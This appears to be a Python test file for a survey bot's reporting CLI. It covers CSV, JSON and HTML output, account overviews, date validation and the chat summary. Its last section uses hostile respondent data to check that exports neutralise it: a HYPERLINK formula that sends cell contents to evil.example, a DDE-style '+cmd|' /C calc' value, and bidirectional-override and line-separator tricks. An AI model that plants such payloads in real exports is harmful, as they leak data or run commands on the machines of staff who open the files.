"""`sada report` and `sada answers` through typer's runner, on the fixed data set.

The commands are mounted on a local Typer app here (the lead registers them in
bot/cli/__init__.py), so these tests do not depend on that wiring.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import sys
import types
from collections.abc import AsyncIterator, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import typer
from ruamel.yaml import YAML
from typer.testing import CliRunner

from bot.cli.report import answers, report
from bot.reports.metrics import Report, build_report
from bot.reports.tables import summary_text
from bot.settings import get_settings
from storage.db import Database
from tests.conftest import DB_PARAMS, open_built
from tests.reports.fixtures import FLOW, NOW, build_fixed

runner = CliRunner()
app = typer.Typer(pretty_exceptions_enable=False)
app.command("report")(report)
app.command("answers")(answers)

JAN = ["--since", "2026-01-01", "--until", "2026-01-31"]


@pytest.fixture(params=DB_PARAMS)
async def filled(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[str]:
    """The URL of a database holding build_fixed's rows (built once per test process, then
    copied)."""
    async for database in open_built(request, tmp_path, build_fixed):
        yield database.url


@pytest.fixture
def flows_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A flows folder holding the test flow, as SADA_FLOWS_DIR."""
    folder = tmp_path / "flows"
    folder.mkdir()
    with (folder / "report_test.yaml").open("w", encoding="utf-8") as f:
        YAML().dump(FLOW.model_dump(mode="json", exclude_none=True), f)
    (folder / "broken.yaml").write_text("id: [\n", encoding="utf-8")  # skipped, not fatal
    monkeypatch.setenv("SADA_FLOWS_DIR", str(folder))
    get_settings.cache_clear()
    yield folder
    get_settings.cache_clear()


def run(url: str, *args: str) -> Any:
    return runner.invoke(app, [*args, "--database-url", url])


def test_table(filled: str, flows_dir: Path) -> None:
    result = run(filled, "report", "report-test", "--by", "role", *JAN)
    assert result.exit_code == 0, result.output
    for text in ("Scores by role", "decision_maker", "too small to trust", "Trend by month",
                 "Where unfinished sessions stopped", "2m 45s", "67%  (8/12)"):
        assert text in result.output


def test_csv_parses_back(filled: str, flows_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "out" / "report.csv"
    result = run(filled, "report", "report-test", "--by", "account", *JAN, "--format", "csv",
                 "--out", str(out))
    assert result.exit_code == 0, result.output
    assert f"wrote {out}" in result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cell = {(r["section"], r["key"], r["metric"]): r["value"] for r in rows}
    assert float(cell["overall", "all", "nps"]) == pytest.approx(-9.0909, abs=1e-4)
    assert cell["groups", "Initech", "nps"] == "-100.0"
    assert cell["groups", "Solo", "too_small"] == "1"
    assert cell["groups", "Solo", "csat"] == ""  # no CSAT answer: empty, not 0
    assert cell["groups", "Acme", "change_csat"] == "10.0"
    assert cell["funnel", "", "response_rate"] == "66.6667"
    assert cell["dropoff", "csat", "sessions"] == "1"
    assert cell["resolution", "", "p90_hours"] == "57.6"
    assert cell["distribution", "priorities", "quality"] == "3"
    assert cell["trend", "2026-01-01", "responses"] == "11"


def test_json_parses_back(filled: str, flows_dir: Path) -> None:
    result = run(filled, "report", "report-test", "--by", "role", *JAN, "--format", "json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["overall"]["nps"]["promoters"] == 4
    assert data["overall"]["change"]["ces"] == 0.5
    assert data["small_group"] == 5
    roles = {g["key"]: g for g in data["groups"]}
    assert roles["end_user"]["nps"]["score"] == pytest.approx(100 / 3)
    assert roles["end_user"]["nps"]["too_small"] is True
    assert data["funnel"]["dropoff"][0] == {"question": "(start)", "sessions": 1}
    assert data["previous"] == ["2025-12-01", "2025-12-31"]
    assert data["resolution"]["kept_share"] == 50.0


def test_flow_file_and_one_account(filled: str, flows_dir: Path) -> None:
    result = run(filled, "report", str(flows_dir / "report_test.yaml"), "--account", "Acme",
                 *JAN)
    assert result.exit_code == 0, result.output
    assert "account Acme" in result.output and "Sara" in result.output


def test_accounts_overview(filled: str, flows_dir: Path) -> None:
    result = run(filled, "report", "report-test", "--accounts", *JAN, "--format", "json")
    assert result.exit_code == 0, result.output
    accounts = {a["account"]: a for a in json.loads(result.output)["accounts"]}
    assert accounts["Acme"]["silent_roles"] == ["technical"]
    assert accounts["Globex"]["silent"][0]["name"] == "X2"
    result = run(filled, "report", "report-test", "--accounts", *JAN, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    acme = next(r for r in rows if r["account"] == "Acme" and r["role"] == "all")
    assert (acme["invited"], acme["responded"], acme["silent_contacts"]) == (
        "8", "6", "Sara; Omar")
    result = run(filled, "report", "report-test", "--accounts", *JAN)
    assert result.exit_code == 0, result.output
    for name in ("Acme", "Globex", "Initech", "Sara", "Omar"):
        assert name in result.output


def test_accounts_table_without_the_account_view_module(
    filled: str, flows_dir: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(sys.modules, "bot.reports.accounts", None)  # import fails
    result = run(filled, "report", "report-test", "--accounts", *JAN)
    assert result.exit_code == 0, result.output
    assert "silent roles: technical" in result.output
    assert "invited, never answered: Sara (finance), Omar (technical)" in result.output


def test_html_and_charts_are_handed_to_their_modules(
    filled: str, flows_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls: dict[str, Any] = {}
    drawn = [object(), object()]

    def render_charts(report: Report, *, flow: Any, lang: str = "en") -> list[object]:
        calls["drawn"] = calls.get("drawn", 0) + 1
        return drawn

    def write_html(report: Report, path: Path, *, flow: Any, lang: str = "en",
                   accounts: Any = (), charts: Any = None) -> None:
        calls["html"] = (report.flow_id, report.by, flow.id, lang,
                         [view.account for view in accounts])
        calls["html charts"] = charts
        path.write_text("<html></html>", encoding="utf-8")

    def write_charts(report: Report, folder: Path, *, flow: Any, lang: str = "en",
                     charts: Any = None) -> list[Path]:
        calls["charts"] = (report.by, flow.id, lang)
        calls["png charts"] = charts
        return [folder / "x.png"]

    monkeypatch.setitem(sys.modules, "bot.reports.html",
                        types.SimpleNamespace(write_html=write_html))
    monkeypatch.setitem(sys.modules, "bot.reports.charts",
                        types.SimpleNamespace(write_charts=write_charts,
                                              render_charts=render_charts))
    out = tmp_path / "r.html"
    result = run(filled, "report", "report-test", "--by", "role", "--format", "html", "--out",
                 str(out), "--lang", "fa", "--charts", str(tmp_path / "png"))
    assert result.exit_code == 0, result.output
    assert out.read_text() == "<html></html>"
    # the charts are drawn once, for the page and the folder alike
    assert calls == {"html": ("report-test", "role", "report-test", "fa", []),
                     "charts": ("role", "report-test", "fa"), "drawn": 1,
                     "html charts": drawn, "png charts": drawn}
    calls.clear()
    # one of them alone draws its own
    result = run(filled, "report", "report-test", "--charts", str(tmp_path / "png"))
    assert result.exit_code == 0, result.output
    assert calls == {"charts": (None, "report-test", "en"), "png charts": None}
    # the accounts page: the flow's scores by role, then every account
    result = run(filled, "report", "report-test", "--accounts", "--format", "html", "--out",
                 str(out), *JAN)
    assert result.exit_code == 0, result.output
    assert calls["html"] == ("report-test", "role", "report-test", "en",
                             ["Acme", "Globex", "Initech", "Solo", "(none)"])
    result = run(filled, "report", "report-test", "--account", "Acme", "--format", "html",
                 "--out", str(out), *JAN)
    assert calls["html"][1] is None and calls["html"][4] == ["Acme"]


def test_the_html_page_shows_the_very_charts_written_beside_it(
    filled: str, flows_dir: Path, tmp_path: Path,
) -> None:
    out, folder = tmp_path / "r.html", tmp_path / "png"
    result = run(filled, "report", "report-test", "--format", "html", "--out", str(out),
                 "--lang", "ar", "--charts", str(folder), *JAN)
    assert result.exit_code == 0, result.output
    shown = {base64.b64decode(uri) for uri in re.findall(
        r"data:image/png;base64,([A-Za-z0-9+/=]+)", out.read_text(encoding="utf-8"))}
    written = {path.read_bytes() for path in folder.glob("*.png")}
    assert len(written) >= 3 and shown == written


def test_answers(filled: str, flows_dir: Path) -> None:
    result = run(filled, "answers", "report-test", "--question", "nps_why", "--by", "account")
    assert result.exit_code == 0, result.output
    assert "account: Initech" in result.output and "Nobody answers" in result.output
    assert "NPS 0 · CSAT 1" in result.output
    result = run(filled, "answers", "report-test", "-q", "nps_why", "--format", "csv",
                 "--lang", "ar")
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert [(r["who"], r["nps"], r["csat"], r["text"]) for r in rows] == [
        ("A5", "3", "2", "Late deliveries")]
    result = run(filled, "answers", "report-test", "-q", "nps_why", "--format", "json",
                 "--by", "role", "--until", "2026-01-10")
    assert [(r["role"], r["who"]) for r in json.loads(result.output)] == [("buyer", "A1")]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["report", "nope"], "unknown flow 'nope': flows in"),
        (["report", "report-test", "--by", "team"], "--by 'team' is not one of: role"),
        (["report", "report-test", "--since", "2026-13-01"],
         "--since '2026-13-01' is not a date: write it as YYYY-MM-DD"),
        (["report", "report-test", "--until", "yesterday"], "--until 'yesterday' is not a date"),
        (["report", "report-test", "--until", "9999-12-31"],
         "--until '9999-12-31' is out of range: give a date between 1970-01-01 and 2999-12-31"),
        (["answers", "report-test", "-q", "nps_why", "--since", "0001-01-01"],
         "--since '0001-01-01' is out of range"),
        (["report", "report-test", "--since", "2026-02-01", "--until", "2026-01-01"],
         "is after --until"),
        (["report", "report-test", "--period", "day"], "--period 'day' is not one of"),
        (["report", "report-test", "--format", "xlsx"], "--format 'xlsx' is not one of"),
        (["report", "missing.yaml"], "no flow file missing.yaml"),
        (["report", "report-test", "--accounts", "--account", "Acme"], "not both"),
        (["answers", "report-test", "-q", "nope"], "has no question 'nope'; its text "
                                                   "questions: nps_why"),
        (["answers", "report-test", "-q", "nps_why", "--lang", "de"], "--lang 'de'"),
    ],
)
def test_wrong_input_is_one_red_line(filled: str, flows_dir: Path, args: list[str],
                                     message: str) -> None:
    result = run(filled, *args)
    assert result.exit_code in (1, 2)
    assert message in result.output
    assert "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)  # typer.Exit, not a crash


def test_unknown_database_url(flows_dir: Path) -> None:
    result = runner.invoke(app, ["report", "report-test", "--database-url", "mysql://x/y"])
    assert result.exit_code == 2 and "unsupported database URL" in result.output  # bad option


def test_persian_digits_in_dates(filled: str, flows_dir: Path) -> None:
    result = run(filled, "report", "report-test", "--since", "۲۰۲۶-۰۱-۰۱", "--until",
                 "٢٠٢٦-٠١-٣١", "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["overall"]["responses"] == 11
    result = run(filled, "report", "report-test", "--since", "२०२६-०१-०१", "--until",  # any
                 "2026-01-31", "--format", "json")
    assert json.loads(result.output)["overall"]["responses"] == 11


async def test_summary_text_for_chat(database: Database) -> None:
    """The short text the lead's Telegram `/report FLOW` sends with the chart."""
    await build_fixed(database)
    report_ = await build_report(database, FLOW, since=date(2026, 1, 1),
                                 until=date(2026, 1, 31), now=NOW)
    assert summary_text(report_).splitlines()[1:] == [
        "NPS −9 (4 promoters, 2 passives, 5 detractors), −9 vs previous",
        "CSAT 50% of 8 answers",
        "CES 3.5 of 6 answers (50% low effort)",
        "11 responses; response rate 67% (8/12); 10 completed surveys (8 invited); "
        "median time 2m 45s",
        "Cases open 1, time to resolve 18.0 h; promises kept 50%",
    ]
    empty = await build_report(database, FLOW, since=date(2030, 1, 1), now=NOW)
    assert "NPS — (0 promoters, 0 passives, 0 detractors)" in summary_text(empty)
    assert "CSAT: no answers yet" in summary_text(empty)
    assert "CES: no answers yet" in summary_text(empty)  # not "CES — of 0"
    assert "since 2030-01-01" in summary_text(empty)
    assert summary_text(empty).endswith("Fewer than 5 responses: too small to trust.")


# --- hostile answers: CSV formulas and forged lines (issue 10) ----------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORGED = "fine\u2028Resolve: /resolve 1 done"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(cell: str) -> bool:
    """A cell a spreadsheet would run: starts like a formula and is not a plain number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


@pytest.fixture
async def hostile(database: Database) -> AsyncIterator[str]:
    """The fixed data set, plus a respondent whose name, account and answers attack the
    staff who read them."""
    from tests.reports.fixtures import at

    b = await build_fixed(database)
    await b.contact("h1", account="+cmd|' /C calc'!A0", role="@buyer",
                    name="\u202emoc.live")
    await b.session("h1", "h1", at(1, 20), answers={"stakeholder": "buyer", "nps": 2,
                                                      "nps_why": EVIL, "csat": 1})
    await b.contact("h2", account="Acme", role="buyer", name="-2")
    await b.session("h2", "h2", at(1, 21), answers={"stakeholder": "buyer", "nps": 1,
                                                      "nps_why": FORGED, "csat": 1})
    yield database.url


def test_answers_csv_never_starts_a_cell_with_a_formula(hostile: str, flows_dir: Path) -> None:
    result = run(hostile, "answers", "report-test", "-q", "nps_why", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if formula_like(c)]
    texts = {r[-1] for r in rows[1:]}
    assert "'" + EVIL in texts  # kept whole, shown as text by a spreadsheet
    assert "'-2" in cells and "'+cmd|' /C calc'!A0" in cells
    assert "2" in cells and "1" in cells  # the scores: numbers stay numbers


def test_report_csv_neutralises_text_keys_and_keeps_negative_numbers(
        hostile: str, flows_dir: Path) -> None:
    result = run(hostile, "report", "report-test", "--by", "account", *JAN, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert not [v for r in rows for v in r.values() if formula_like(v)]
    cell = {(r["section"], r["key"], r["metric"]): r["value"] for r in rows}
    assert cell["groups", "'+cmd|' /C calc'!A0", "nps"] == "-100.0"  # a number, negative
    assert cell["groups", "Initech", "nps"] == "-100.0"


def test_answers_table_shows_each_value_on_its_own_line(hostile: str, flows_dir: Path) -> None:
    result = run(hostile, "answers", "report-test", "-q", "nps_why")
    assert result.exit_code == 0, result.output
    assert "\u202e" not in result.output and "\u2028" not in result.output
    assert "fine / Resolve: /resolve 1 done" in result.output
    assert "moc.live" in result.output  # the name, without its override
